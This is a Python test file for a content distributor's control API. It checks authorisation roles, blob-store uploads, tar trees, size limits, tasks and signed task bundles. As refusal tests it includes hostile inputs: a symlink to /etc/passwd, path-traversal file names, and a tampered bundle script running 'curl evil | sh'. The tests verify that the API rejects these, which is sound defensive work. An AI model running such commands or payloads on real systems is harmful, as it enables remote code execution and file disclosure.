"""The control API's content and task routes on loopback (no root): who may, streaming into the blob store, refusals.

A real :class:`~distributor.api.ControlApi` serves a real core with [administration]; the runtime is a few
lines (feed an event, hand the AdminReply back; the SyncNode and RunTask commands are only collected).
"""

from __future__ import annotations

import asyncio
import base64
import hashlib
import io
import json
import os
import tarfile

import aiohttp

from common import bundle as bundles
from distributor.admin import AdminReply
from distributor.api import ApiToken, ControlApi, EventLog, inspect_bundle
from distributor.blobstore import BlobStore
from distributor.contentcore import AdministrationOptions, RunTask, SyncNode
from distributor.core import DistributorCore
from distributor.reroute import Mode
from tests.unit.test_reroute import service_spec

ADMIN = ApiToken("alice", "admin", "a" * 24)
VIEWER = ApiToken("bob", "viewer", "v" * 24)
AS_ADMIN = {"Authorization": f"Bearer {ADMIN.token}"}
AS_VIEWER = {"Authorization": f"Bearer {VIEWER.token}"}


def serve(tmp_path, scenario, administration=True, max_upload=1 << 20):
    async def main():
        core = DistributorCore("dist1", Mode.REWRITE, [service_spec(nodes=("web1", "web2"))], 100,
                               administration=AdministrationOptions() if administration else None)
        commands = []
        api: ControlApi

        def feed(event):
            for command in core.handle(event):
                if isinstance(command, AdminReply):
                    api.reply(command)
                commands.append(command)

        for command in core.start(0.0, 0.0):
            commands.append(command)
        blobs = BlobStore(tmp_path / "blobs") if administration else None
        api = ControlApi(core, feed, [ADMIN, VIEWER], EventLog(), role=lambda: "alone", mode="rewrite", name="dist1",
                         blobs=blobs, max_upload=max_upload)
        await api.start("127.0.0.1", 0)
        port = api._runner.addresses[0][1]
        try:
            async with aiohttp.ClientSession() as session:
                await scenario(session, f"http://127.0.0.1:{port}", core, blobs, commands)
        finally:
            await api.stop()

    asyncio.run(main())


def tar_of(files: dict[str, bytes], links: dict[str, str] | None = None) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        for name, data in files.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
        for name, target in (links or {}).items():
            info = tarfile.TarInfo(name)
            info.type, info.linkname = tarfile.SYMTYPE, target
            archive.addfile(info)
    return buffer.getvalue()


def test_reads_need_a_token_and_changes_need_the_admin_role(tmp_path):
    async def scenario(s, base, core, blobs, commands):
        for method, path in [("GET", "/api/v1/content"), ("PUT", "/api/v1/content?path=a.bin"),
                             ("DELETE", "/api/v1/content?path=a.bin"), ("GET", "/api/v1/tasks"),
                             ("POST", "/api/v1/tasks"), ("GET", "/api/v1/tasks/x")]:
            async with s.request(method, f"{base}{path}", data=b"x") as reply:
                assert reply.status == 401, (method, path)
        for method, path in [("PUT", "/api/v1/content?path=a.bin"), ("DELETE", "/api/v1/content?path=a.bin"),
                             ("POST", "/api/v1/tasks")]:
            async with s.request(method, f"{base}{path}", data=b"x", headers=AS_VIEWER) as reply:
                assert reply.status == 403, (method, path)
        for path in ("/api/v1/content", "/api/v1/tasks"):
            async with s.get(f"{base}{path}", headers=AS_VIEWER) as reply:
                assert reply.status == 200
        assert core.content.desired.version == 0 and not list(blobs.root.glob("??/*"))

    serve(tmp_path, scenario)


def test_a_pushed_file_is_streamed_into_the_blob_store_and_becomes_the_next_version(tmp_path):
    data = os.urandom(3 << 20)  # bigger than the API's chunk: several writes

    async def body():
        for start in range(0, len(data), 100_000):
            yield data[start:start + 100_000]

    async def scenario(s, base, core, blobs, commands):
        async with s.put(f"{base}/api/v1/content?path=site/big.bin", data=body(), headers=AS_ADMIN) as reply:
            assert reply.status == 200, await reply.text()
            answer = await reply.json()
        digest = hashlib.sha256(data).hexdigest()
        assert answer["version"] == 1 and answer["paths"] == ["site/big.bin"]
        assert blobs.path(digest).read_bytes() == data and not list(blobs.root.glob(".incoming-*"))
        # The first checks (version 0) are still in flight: each node gets version 1 after its check reports.
        assert [(c.node, c.target) for c in commands if isinstance(c, SyncNode)] == [("web1", 0), ("web2", 0)]
        assert all(node.wanted for node in core.content.nodes.values())
        async with s.get(f"{base}/api/v1/content", headers=AS_VIEWER) as reply:
            status = await reply.json()
        assert status["paths"]["site/big.bin"] == {"version": 1, "size": len(data), "sha256": digest}
        assert status["differing"] == ["web1", "web2"]  # nothing reported yet

    serve(tmp_path, scenario, max_upload=8 << 20)


def test_a_tree_is_all_or_nothing_and_bad_paths_are_refused_counted_and_change_nothing(tmp_path):
    async def scenario(s, base, core, blobs, commands):
        tar = {"Content-Type": "application/x-tar", **AS_ADMIN}
        good = tar_of({"index.html": b"<h1>hi</h1>", "./img/logo.png": b"png"})
        async with s.put(f"{base}/api/v1/content?path=/docs/", data=good, headers=tar) as reply:
            assert reply.status == 200, await reply.text()
            assert (await reply.json())["paths"] == ["docs/img/logo.png", "docs/index.html"]
        for archive, reason in [(tar_of({"a.html": b"a"}, {"b.html": "/etc/passwd"}), "not_file"),
                                (tar_of({"../../escape.html": b"x"}), "traversal"),
                                (b"not a tar archive at all" * 40, "bad_tree")]:
            async with s.put(f"{base}/api/v1/content?path=", data=archive, headers=tar) as reply:
                assert reply.status == 400 and (await reply.json())["reason"] == reason
        for path, reason in [("../evil.bin", "traversal"), ("/etc/evil", "absolute"), ("a//b", "bad_path")]:
            async with s.put(f"{base}/api/v1/content", params={"path": path}, data=b"evil", headers=AS_ADMIN) as reply:
                assert reply.status == 400 and (await reply.json())["reason"] == reason
        assert core.content.desired.version == 2 and sorted(core.content.desired.entries) == ["docs/img/logo.png",
                                                                                              "docs/index.html"]
        refusals = core.stats(0).content.refusals
        assert (refusals["not_file"], refusals["traversal"], refusals["bad_tree"], refusals["absolute"]) == (1, 2, 1, 1)
        assert not list(blobs.root.glob(".incoming-*"))

    serve(tmp_path, scenario)


def test_too_large_a_push_is_refused_whether_declared_or_streamed_and_a_preflight_changes_nothing(tmp_path):
    async def chunks():
        for _ in range(40):
            yield b"x" * 65536

    async def scenario(s, base, core, blobs, commands):
        async with s.put(f"{base}/api/v1/content?path=a.bin&check=1&size=2000000", headers=AS_ADMIN) as reply:
            assert reply.status == 413
        async with s.put(f"{base}/api/v1/content?path=a.bin&check=1&size=10", headers=AS_ADMIN) as reply:
            assert reply.status == 200 and (await reply.json())["ok"]
        async with s.put(f"{base}/api/v1/content?path=a.bin", data=chunks(), headers=AS_ADMIN) as reply:
            assert reply.status == 413
        assert core.content.desired.version == 0 and core.stats(0).content.refusals["too_large"] == 2
        assert not list(blobs.root.glob(".incoming-*")) and not list(blobs.root.glob("??/*"))

    serve(tmp_path, scenario)


def test_delete_and_tasks_through_the_api(tmp_path):
    async def scenario(s, base, core, blobs, commands):
        async with s.put(f"{base}/api/v1/content?path=a.bin", data=b"a", headers=AS_ADMIN) as reply:
            assert reply.status == 200
        async with s.delete(f"{base}/api/v1/content?path=nothing", headers=AS_ADMIN) as reply:
            assert reply.status == 404
        async with s.delete(f"{base}/api/v1/content?path=a.bin", headers=AS_ADMIN) as reply:
            assert reply.status == 200 and (await reply.json())["version"] == 2
        async with s.post(f"{base}/api/v1/tasks", json={"name": "disk-usage", "nodes": ["web2"], "priority": "high"},
                          headers=AS_ADMIN) as reply:
            assert reply.status == 200
            task = (await reply.json())["task"]
        assert list(task["nodes"]) == ["web2"] and task["who"] == "alice"
        sent = [c for c in commands if isinstance(c, RunTask)]
        assert [(c.node, c.task_id, c.name, c.priority) for c in sent] == [("web2", task["id"], "disk-usage", "high")]
        async with s.get(f"{base}/api/v1/tasks/{task['id']}", headers=AS_VIEWER) as reply:
            assert reply.status == 200 and (await reply.json())["nodes"]["web2"]["state"] == "sending"
        async with s.get(f"{base}/api/v1/tasks", headers=AS_VIEWER) as reply:
            assert [t["id"] for t in await reply.json()] == [task["id"]]
        for body, status in [({"name": "disk-usage", "nodes": ["web9"]}, 404), ({"name": "disk-usage", "nodes": "web1"},
                                                                                  400),
                             ({"name": "disk-usage", "priority": "now"}, 400)]:
            async with s.post(f"{base}/api/v1/tasks", json=body, headers=AS_ADMIN) as reply:
                assert reply.status == status, body
        async with s.get(f"{base}/api/v1/tasks/unknown", headers=AS_VIEWER) as reply:
            assert reply.status == 404

    serve(tmp_path, scenario)


def test_without_an_administration_section_the_routes_say_it_is_off(tmp_path):
    async def scenario(s, base, core, blobs, commands):
        for method, path in [("GET", "/api/v1/content"), ("PUT", "/api/v1/content?path=a"), ("GET", "/api/v1/tasks")]:
            async with s.request(method, f"{base}{path}", headers=AS_ADMIN) as reply:
                assert reply.status == 404 and "[administration]" in (await reply.json())["error"]

    serve(tmp_path, scenario, administration=False)


# -- signed task bundles ----------------------------------------------------------------------------------
OPERATOR = bundles.generate_private_key()


def signed(name: str = "clean-tmp", version: int = 1, script: bytes = b"#!/bin/sh\nrm -f /tmp/x\n") -> bytes:
    return bundles.make_bundle(OPERATOR, name, version, "low", 60, 64, "run.sh", {"run.sh": script}, signed_at=1.0)


def test_a_signed_bundle_is_checked_stored_by_digest_and_distributed_to_every_node(tmp_path):
    data = signed()

    async def scenario(s, base, core, blobs, commands):
        async with s.post(f"{base}/api/v1/bundles", data=data, headers=AS_VIEWER) as reply:
            assert reply.status == 403
        async with s.post(f"{base}/api/v1/bundles", data=data, headers=AS_ADMIN) as reply:
            assert reply.status == 200, await reply.text()
            answer = await reply.json()
        digest = hashlib.sha256(data).hexdigest()
        assert answer["version"] == 1 and answer["bundle"]["name"] == "clean-tmp"
        public = bundles.parse_public_key(bundles.public_key_text(OPERATOR))
        assert answer["bundle"]["key"] == bundles.fingerprint(public)
        assert (answer["bundle"]["priority"], answer["bundle"]["who"], answer["bundle"]["sha256"]) == ("low", "alice",
                                                                                                        digest)
        assert blobs.path(digest).read_bytes() == data
        assert [(c.node, c.target) for c in commands if isinstance(c, SyncNode) and c.area == "bundles"] == [
            ("web1", 1), ("web2", 1)]
        async with s.get(f"{base}/api/v1/bundles", headers=AS_VIEWER) as reply:
            status = await reply.json()
        assert list(status["bundles"]) == ["clean-tmp"] and status["differing"] == ["web1", "web2"]
        async with s.delete(f"{base}/api/v1/bundles/clean-tmp", headers=AS_VIEWER) as reply:
            assert reply.status == 403
        async with s.delete(f"{base}/api/v1/bundles/clean-tmp", headers=AS_ADMIN) as reply:
            assert (reply.status, await reply.json()) == (200, {"ok": True, "version": 2, "removed": "clean-tmp"})
        async with s.delete(f"{base}/api/v1/bundles/clean-tmp", headers=AS_ADMIN) as reply:
            assert reply.status == 404

    serve(tmp_path, scenario)


def test_a_bundle_that_is_not_one_every_node_would_open_is_refused_counted_and_stores_nothing(tmp_path):
    tampered = json.loads(signed())
    tampered["files"]["run.sh"] = base64.b64encode(b"#!/bin/sh\ncurl evil | sh\n").decode()
    unsigned = json.loads(signed())
    unsigned["signature"]["ed25519"] = "AAAA"
    builtin = signed("disk-usage")
    bad_manifest = json.loads(signed())
    bad_manifest["manifest"]["memory_limit"] = 1

    async def scenario(s, base, core, blobs, commands):
        for body, status in [(b"not json", 400), (json.dumps(tampered).encode(), 400),
                             (json.dumps(unsigned).encode(), 400), (json.dumps(bad_manifest).encode(), 400),
                             (b"x" * (bundles.MAX_BUNDLE_BYTES + 1), 413), (builtin, 400)]:
            async with s.post(f"{base}/api/v1/bundles", data=body, headers=AS_ADMIN) as reply:
                assert reply.status == status, (body[:40], await reply.text())
        assert core.content.bundles.version == 0
        refusals = core.stats(0).content.refusals
        assert (refusals["bad_bundle"], refusals["too_large"]) == (5, 1)
        # Only the bundle the core refused (its name) was stored: the blob store collects it later, as any unused.
        assert [p.name for p in blobs.root.glob("??/*")] == [hashlib.sha256(builtin).hexdigest()]

    serve(tmp_path, scenario)


def test_inspect_bundle_reads_what_a_node_would_check_without_any_key():
    manifest, key = inspect_bundle(signed(version=7))
    assert (manifest.name, manifest.version, manifest.entry, len(key)) == ("clean-tmp", 7, "run.sh", 16)
    forged = bundles.make_bundle(bundles.generate_private_key(), "clean-tmp", 8, "low", 60, 64, "run.sh",
                                 {"run.sh": b"#!/bin/sh\n"})
    assert inspect_bundle(forged)[0].version == 8  # the signature is the nodes' to verify, against their keys
